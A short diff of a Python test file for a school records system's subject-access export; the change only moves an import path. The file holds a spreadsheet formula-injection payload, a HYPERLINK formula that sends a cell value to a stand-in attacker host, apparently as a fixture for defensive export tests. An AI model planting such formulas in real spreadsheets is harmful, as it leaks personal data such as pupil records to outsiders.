@@ -10,10 +10,10 @@ import zipfile
 
 import pyarrow as pa
 
-from registers import marks, pupil
 from rollbook.analytics.subject_access import export_zip, gather
 from rollbook.lake import MARKS, PUPILS, PartitionKey
 from rollbook.rules.upn import make
+from tests.support.registers import marks, pupil
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
 PUPIL = make(823, 4001, 23, 1)
